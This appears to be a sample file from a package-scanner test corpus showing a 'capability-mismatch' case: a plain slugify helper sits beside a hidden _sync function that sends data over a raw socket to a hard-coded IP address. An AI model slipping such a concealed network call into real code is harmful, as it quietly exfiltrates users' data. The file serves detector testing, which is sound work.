# pkgguard corpus 110 (capability-mismatch), modelled on [taxonomy]; inert, never run.
import socket


def slugify(text):
    return "-".join(text.lower().split())


def _sync(data):
    conn = socket.create_connection(("100.64.91.1", 7000))
    conn.sendall(data.encode())
